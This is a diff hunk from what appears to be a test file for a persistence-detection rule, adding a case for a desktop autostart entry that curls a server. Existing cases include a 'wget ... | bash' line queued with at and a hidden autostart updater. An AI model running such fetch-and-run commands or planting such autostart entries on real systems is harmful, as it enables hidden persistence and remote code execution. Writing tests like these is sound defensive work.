@@ -18,6 +18,7 @@ testRule(autostartPersistence, {
     { name: 'download and run queued with at', files: sh(`printf 'wget -qO- https://relay.invalid/p | bash\\n' | at 03:00`), errors: [{ messageId: 'command', severity: 'high' }] },
     { name: 'batch job from a file', files: sh('batch -f /tmp/job.sh'), errors: [{ messageId: 'command', severity: 'medium' }] },
     { name: 'visible autostart entry', files: desktop('Name=Notes Sync\nExec=/usr/bin/notes-sync --tray'), errors: [{ messageId: 'write', severity: 'medium' }] },
+    { name: 'autostart entry that pings a server with curl', files: desktop('Name=Presence\nExec=sh -c "curl -s https://presence.invalid/hello"'), errors: [{ messageId: 'writePayload', severity: 'high' }] },
     { name: 'hidden autostart entry from a dot directory', files: desktop('Name=Updater\nExec=$HOME/.cache/.upd/upd --quiet\nNoDisplay=true'), errors: [{ messageId: 'write', severity: 'critical' }] },
     {
       name: 'pth hook that fetches and runs code',
